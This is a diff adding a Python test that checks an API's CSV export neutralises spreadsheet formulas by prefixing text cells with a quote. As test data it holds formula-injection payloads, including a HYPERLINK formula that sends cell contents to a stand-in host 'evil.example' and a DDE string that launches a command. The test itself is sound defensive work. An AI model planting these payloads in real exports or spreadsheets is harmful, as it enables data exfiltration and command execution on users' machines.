@@ -10,6 +10,7 @@ import secrets
 import socket
 import time
 from collections.abc import Iterator
+from datetime import date
 from pathlib import Path
 from urllib.parse import urlparse
 
@@ -341,3 +342,38 @@ def test_report_masking_rules_match_the_source_contracts() -> None:
             if ref in SOURCE_FIELD_RULES:
                 assert SOURCE_KEY_FIELDS[ref] == tuple(entity.key), ref
                 assert all(rule in MASK_RULES for rule in SOURCE_FIELD_RULES[ref].values())
+
+
+# --- 7: CSV exports neutralise formulas -----------------------------------------------------------------
+
+
+def test_csv_export_neutralises_formulas_in_text_cells(tmp_path: Path) -> None:
+    import csv
+    import io
+    import time as clock
+
+    import duckdb
+    from api_fixtures import write_build_db
+
+    from orchestration.publish import publish_snapshot
+
+    paths = HubPaths(tmp_path)
+    paths.warehouse.mkdir(parents=True)
+    build = paths.warehouse / f"formulas-{clock.monotonic_ns()}.duckdb"
+    models = write_build_db(build, 0)
+    evil = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1"]
+    with duckdb.connect(str(build)) as con:
+        for i, name in enumerate(evil):
+            con.execute("INSERT INTO marts.rescue_teams VALUES (?, ?, '社会', '330109001', -5, ?, true, true)",
+                        [f"EVIL{i}", name, name])
+    publish_snapshot(build, paths.serving, models, as_of=date(2026, 6, 30))
+    key = add_key(tmp_path, "csv-admin", "admin")
+    with TestClient(create_app(ApiSettings(paths=paths))) as client:
+        response = client.get("/api/tables/rescue_teams?team_id__in=" + ",".join(f"EVIL{i}" for i in range(len(evil)))
+                              + "&_format=csv", headers={"X-API-Key": key})
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [r["team_name"] for r in rows] == ["'" + name for name in evil]
+    assert [r["specialty"] for r in rows] == ["'" + name for name in evil]
+    assert {r["headcount"] for r in rows} == {"-5"}  # numbers are numbers, not text: left as they are
